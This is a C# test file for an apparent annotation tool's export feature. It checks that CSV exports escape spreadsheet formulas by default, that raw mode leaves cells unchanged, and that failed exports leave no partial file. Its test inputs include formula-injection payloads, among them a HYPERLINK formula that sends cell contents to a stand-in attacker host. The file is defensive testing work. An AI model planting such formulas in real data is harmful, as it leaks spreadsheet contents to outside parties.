using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using CsvHelper;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.AspNetCore.TestHost;
using Microsoft.EntityFrameworkCore.Diagnostics;
using Microsoft.Extensions.DependencyInjection;
using Tagloop.Core;
using Tagloop.Core.Annotations;

namespace Tagloop.Server.Tests.Export;

/// <summary>Exports are whole or an error, and CSV cells cannot run as spreadsheet formulas unless raw cells are asked for.</summary>
public sealed class ExportSafetyTests : IDisposable
{
    private static readonly string[] Hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tTabbed", "-5", "+3.25", "plain text"];

    private readonly TagloopApp app = new();

    public void Dispose() => app.Dispose();

    [Fact]
    public async Task Csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_unless_raw()
    {
        var project = await LabelAsync(Hostile);
        var client = app.CreateClient();

        var safe = TextColumn(await client.GetStringAsync($"/api/v1/projects/{project}/export?format=csv"));
        Assert.Equal(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1+2", "'-2+3", "'@SUM(A1:A9)", "'\tTabbed", "-5", "+3.25", "plain text"], safe);

        var raw = TextColumn(await client.GetStringAsync($"/api/v1/projects/{project}/export?format=csv&raw=true"));
        Assert.Equal(Hostile, raw);

        // JSON formats are for programs and carry the text unchanged.
        var jsonl = (await client.GetStringAsync($"/api/v1/projects/{project}/export?format=jsonl")).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(Hostile, jsonl.Select(l => JsonDocument.Parse(l).RootElement.GetProperty("text").GetString()));
    }

    [Fact]
    public async Task An_export_announces_its_length_and_arrives_whole()
    {
        var project = await LabelAsync(Enumerable.Range(0, 1_500).Select(i => $"document {i}").ToArray());
        var answer = await app.CreateClient().GetAsync($"/api/v1/projects/{project}/export?format=jsonl");
        var body = await answer.Content.ReadAsByteArrayAsync();

        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        Assert.Equal(body.Length, answer.Content.Headers.ContentLength);
        Assert.Equal(1_500, body.Count(b => b == (byte)'\n'));
        Assert.Empty(Directory.EnumerateFiles(Path.Combine(app.DataDir, "tmp")));
    }

    [Fact]
    public async Task An_export_that_fails_half_way_answers_an_error_before_its_first_byte_and_leaves_no_file()
    {
        var failing = new FailingExportReads();
        using var broken = app.WithWebHostBuilder(b => b.ConfigureTestServices(s => s.AddSingleton<IInterceptor>(failing)));
        var project = await LabelAsync(Enumerable.Range(0, 2_011).Select(i => $"document {i}").ToArray(), broken);

        failing.Armed = true;
        var answer = await broken.CreateClient().GetAsync($"/api/v1/projects/{project}/export?format=jsonl");

        Assert.Equal(HttpStatusCode.InternalServerError, answer.StatusCode);
        Assert.Equal("application/problem+json", answer.Content.Headers.ContentType?.MediaType);
        Assert.DoesNotContain("document 0", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Empty(Directory.EnumerateFiles(Path.Combine(app.DataDir, "tmp")));
    }

    [Fact]
    public async Task The_command_line_export_neutralises_formulas_by_default_and_writes_raw_cells_with_raw()
    {
        await LabelAsync(Hostile, name: "Formulas");
        var safe = Path.Combine(app.DataDir, "safe.csv");
        var raw = Path.Combine(app.DataDir, "raw.csv");

        Assert.Equal(0, await RunCliAsync("export", "--project", "Formulas", "--format", "csv", "--out", safe));
        Assert.Equal(0, await RunCliAsync("export", "--project", "Formulas", "--format", "csv", "--out", raw, "--raw"));

        Assert.Contains("'=HYPERLINK", TextColumn(await File.ReadAllTextAsync(safe))[0], StringComparison.Ordinal);
        Assert.Equal(Hostile, TextColumn(await File.ReadAllTextAsync(raw)));
        Assert.Empty(Directory.EnumerateFiles(app.DataDir, "*.partial"));
    }

    [Fact]
    public async Task The_command_line_export_names_a_missing_folder_in_one_line()
    {
        await LabelAsync(["one"], name: "Small");
        var (code, error) = await RunCliWithErrorAsync("export", "--project", "Small", "--out", Path.Combine(app.DataDir, "missing", "x.csv"));
        Assert.Equal(1, code);
        Assert.Contains("missing", error, StringComparison.Ordinal);
        Assert.Single(error.Trim().Split('\n'));
    }

    private static List<string> TextColumn(string csv)
    {
        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        var texts = new List<string>();
        reader.Read();
        reader.ReadHeader();
        while (reader.Read())
        {
            texts.Add(reader.GetField("text")!);
        }

        return texts;
    }

    /// <summary>A project whose documents (in this order) each carry one current answer, written straight to the database.</summary>
    private async Task<int> LabelAsync(string[] texts, WebApplicationFactory<Program>? factory = null, string name = "Export")
    {
        var project = await app.CreateProjectAsync(name);
        var ids = await app.SeedDocumentsAsync(project, texts);
        using var scope = (factory ?? app).Services.CreateScope();
        var db = scope.ServiceProvider.GetRequiredService<TagloopDbContext>();
        var spam = db.Labels.Single(l => l.ProjectId == project && l.Name == "spam").Id;
        db.Annotations.AddRange(ids.Select(id => new Annotation
        {
            ProjectId = project,
            DocumentId = id,
            Author = "ana",
            Kind = AnnotationKind.Answer,
            Source = AnnotationSources.Human,
            CreatedAt = DateTimeOffset.UnixEpoch,
            IsCurrent = true,
            Labels = [new AnnotationLabel { LabelId = spam }],
        }));
        await db.SaveChangesAsync();
        return project;
    }

    private async Task<int> RunCliAsync(params string[] arguments) => (await RunCliWithErrorAsync(arguments)).Code;

    private async Task<(int Code, string Error)> RunCliWithErrorAsync(params string[] arguments)
    {
        var start = new ProcessStartInfo("dotnet") { RedirectStandardError = true, RedirectStandardOutput = true };
        start.ArgumentList.Add(Path.Combine(AppContext.BaseDirectory, "tagloop.dll"));
        foreach (var argument in arguments)
        {
            start.ArgumentList.Add(argument);
        }

        start.ArgumentList.Add("--data-dir");
        start.ArgumentList.Add(app.DataDir);
        using var process = Process.Start(start)!;
        var error = process.StandardError.ReadToEndAsync();
        await process.StandardOutput.ReadToEndAsync();
        await process.WaitForExitAsync();
        return (process.ExitCode, await error);
    }
}
